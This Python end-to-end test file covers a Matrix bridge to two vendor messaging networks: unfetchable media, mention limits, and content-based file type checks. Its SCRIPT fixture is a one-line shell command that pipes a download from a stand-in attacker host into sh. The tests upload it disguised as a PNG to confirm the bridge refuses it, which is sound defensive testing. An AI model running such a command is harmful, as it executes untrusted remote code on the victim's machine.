"""End to end, one message never holds its conversation, and files are what they claim to be.

- A file whose media cannot be fetched (its server unreachable, a 404) fails that message alone,
  after the configured budget (kept small here: no real-time waits), with a FAIL status and a
  notice; the text sent after it reaches every vendor.
- A message mentioning more people than a vendor lists is delivered, the extra ones as names.
- A file's type is read from its content, both ways: a script declared ``image/png`` is refused,
  a PDF declared ``image/png`` goes on as the PDF it is.

A PandaLab-style user opens each conversation with a Medipeps-style user and a native user.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import ClientSession

from bridge.devtools.ports import free_port
from bridge.devtools.stack import LocalStack

from e2e_helpers import (
    PNG,
    ThreeWay,
    body_is,
    counter,
    file_named,
    inbox_message,
    send_status,
    three_way,
    unique,
    vendor_copy,
)
from helpers import wait_until

pytestmark = pytest.mark.e2e

SCRIPT = b"#!/bin/sh\ncurl -s https://evil.example/payload | sh\n"
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + bytes(range(256)) * 16
FETCH_ATTEMPTS = 2


@pytest.fixture(scope="module")
async def stack(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[LocalStack]:
    async with LocalStack(
        Path(tmp_path_factory.mktemp("files")),
        config_overrides={
            "delivery": {"success_statuses": True},
            "media": {"fetch_attempts": FETCH_ATTEMPTS, "fetch_timeout_s": 5},
        },
    ) as local:
        yield local


@pytest.fixture
async def trio(stack: LocalStack, http: ClientSession) -> AsyncIterator[ThreeWay]:
    async with three_way(stack, http, "pandalab", "medipeps", "Fichiers", "Bonjour") as found:
        yield found


async def send_file(
    trio: ThreeWay, url: str, name: str, mime: str, size: int, msgtype: str = "m.file"
) -> str:
    return await trio.native.send(
        trio.room_id,
        "m.room.message",
        {"msgtype": msgtype, "body": name, "url": url, "info": {"mimetype": mime, "size": size}},
    )


async def notice(trio: ThreeWay, *fragments: str) -> dict[str, Any]:
    return await trio.native.wait_for_event(
        trio.room_id,
        lambda e: all(f in (e.get("content") or {}).get("body", "") for f in fragments),
        30,
    )


# --- Files that cannot be fetched ----------------------------------------------------------------


@pytest.mark.parametrize("where", ["unreachable server", "missing media"])
async def test_a_file_that_cannot_be_fetched_fails_alone_and_the_conversation_goes_on(
    trio: ThreeWay, where: str
) -> None:
    server = trio.stack.synapse.server_name
    # Nothing listens on that port: the homeserver's remote fetch fails (502); or the homeserver
    # has no such media (404).
    url = (
        f"mxc://127.0.0.1:{free_port()}/unreachable{next(counter)}"
        if where == "unreachable server"
        else f"mxc://{server}/missing{next(counter)}"
    )
    name = f"bilan-{next(counter)}.pdf"
    file_event = await send_file(trio, url, name, "application/pdf", 1000)
    after = unique("Et le bilan ?")
    await trio.native.send_text(trio.room_id, after)

    # The text behind the file reaches both vendors: the conversation is not held.
    await vendor_copy(trio.starter, lambda m: m["text"] == after)
    await vendor_copy(trio.other, lambda m: m["text"] == after)
    for network in ("pandalab", "medipeps"):
        status = await send_status(trio, file_event, network)
        assert status["status"] == "FAIL_PERMANENT", status
        assert "ce message n'est pas transmis" in status["message"]
        if where == "unreachable server":
            assert f"après {FETCH_ATTEMPTS} essais" in status["message"]
        else:
            assert "introuvable" in status["message"]
        await notice(trio, f"n'a pas pu être remis à {network}", "fichier")
    assert await inbox_message(trio.starter, file_named(name)) is None


# --- Mentions -------------------------------------------------------------------------------------


async def test_mentions_past_a_vendor_limit_are_delivered_as_plain_names(trio: ThreeWay) -> None:
    server = trio.stack.synapse.server_name
    people = [f"@soignant{i}x{next(counter)}:{server}" for i in range(55)]
    marker = unique("Réunion de service")
    pills = " ".join(
        f'<a href="https://matrix.to/#/{who}">Soignant {i}</a>' for i, who in enumerate(people)
    )
    event_id = await trio.native.send(
        trio.room_id,
        "m.room.message",
        {
            "msgtype": "m.text",
            "body": marker,
            "format": "org.matrix.custom.html",
            "formatted_body": f"{marker} {pills}",
            "m.mentions": {"user_ids": people},
        },
    )
    at_alice = await vendor_copy(trio.starter, lambda m: marker in m["text"])
    assert at_alice["mentions"] == people[:50]
    assert "@Soignant 54" in at_alice["text"]  # past the limit: a plain name, still there
    status = await send_status(trio, event_id, "pandalab")
    assert status["status"] == "SUCCESS"
    assert "au plus 50 mentions" in status["message"] and "les 5 autres" in status["message"]
    # Medipeps lists no mentions at all: every name is plain text there.
    at_bob = await vendor_copy(trio.other, lambda m: marker in m["text"])
    assert "@Soignant 54" in at_bob["text"]


# --- File types read from the content -------------------------------------------------------------


async def test_a_script_declared_as_an_image_is_refused_on_its_way_to_the_vendors(
    trio: ThreeWay,
) -> None:
    name = f"photo-{next(counter)}.png"
    mxc = await trio.native.upload(SCRIPT, "image/png", name)
    event_id = await send_file(trio, mxc, name, "image/png", len(SCRIPT), "m.image")
    for network in ("pandalab", "medipeps"):
        status = await send_status(trio, event_id, network)
        assert status["status"] == "FAIL_PERMANENT", status
        assert "text/x-shellscript" in status["message"] and "image/png" in status["message"]
    after = unique("Photo suivante")
    await trio.native.send_text(trio.room_id, after)
    await vendor_copy(trio.starter, lambda m: m["text"] == after)
    await vendor_copy(trio.other, lambda m: m["text"] == after)
    assert await inbox_message(trio.starter, file_named(name)) is None
    assert await inbox_message(trio.other, file_named(name)) is None


async def test_a_file_declared_with_the_wrong_type_goes_on_with_its_real_type(
    trio: ThreeWay,
) -> None:
    name = f"compte-rendu-{next(counter)}.pdf"
    mxc = await trio.native.upload(PDF, "image/png", name)
    event_id = await send_file(trio, mxc, name, "image/png", len(PDF))
    for user, network in ((trio.starter, "pandalab"), (trio.other, "medipeps")):
        copy = await vendor_copy(user, file_named(name))
        assert copy["attachment"]["mime_type"] == "application/pdf"
        assert await user.download(copy["attachment"]["file_id"]) == PDF
        status = await send_status(trio, event_id, network)
        assert status["status"] == "SUCCESS" and "application/pdf" in status["message"]


async def test_vendor_files_are_checked_against_their_content_on_their_way_to_matrix(
    trio: ThreeWay,
) -> None:
    # A script declared as an image: refused, the room and the vendor sender told.
    script = f"radio-{next(counter)}.png"
    file_id = await trio.starter.upload(SCRIPT, "image/png", script)
    message_id = await trio.starter.post(trio.starter_conv, text="", file_id=file_id)
    await notice(trio, "n'a pas pu être transmis", "text/x-shellscript")

    async def failed() -> list[dict[str, Any]] | None:
        message = await trio.starter.message(trio.starter_conv, message_id)
        reports = (message or {}).get("delivery") or []
        return [r for r in reports if r["status"] == "failed"] or None

    reports = await wait_until(failed, 30, "a failed delivery report at PandaLab")
    assert "text/x-shellscript" in reports[0]["detail"]

    # A PDF declared as an image: it reaches Matrix as the PDF it is.
    pdf = f"ordonnance-{next(counter)}.png"
    file_id = await trio.starter.upload(PDF, "image/png", pdf)
    await trio.starter.post(trio.starter_conv, text="", file_id=file_id)
    event = await trio.native.wait_for_event(trio.room_id, body_is(pdf), 30)
    assert event["content"]["msgtype"] == "m.file"
    assert event["content"]["info"]["mimetype"] == "application/pdf"
    assert await trio.native.download(event["content"]["url"]) == PDF
    # The script never reached Matrix (the PDF, posted after it, did).
    assert not [e for e in trio.native.events(trio.room_id) if body_is(script)(e)]
    # ... nor the other vendor; a PNG that is one still crosses.
    image = f"cliche-{next(counter)}.png"
    file_id = await trio.starter.upload(PNG, "image/png", image)
    await trio.starter.post(trio.starter_conv, text="", file_id=file_id)
    at_bob = await vendor_copy(trio.other, file_named(image))
    assert at_bob["attachment"]["mime_type"] == "image/png"
    assert await inbox_message(trio.other, file_named(script)) is None
